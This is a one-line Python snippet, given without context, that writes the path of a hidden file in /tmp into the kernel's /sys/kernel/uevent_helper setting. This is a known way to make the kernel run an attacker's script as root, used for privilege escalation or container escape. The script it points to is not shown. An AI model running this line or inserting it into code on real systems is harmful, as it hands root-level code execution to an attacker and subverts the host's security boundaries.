open("/sys/kernel/uevent_helper", "w").write("/tmp/.ue\n")
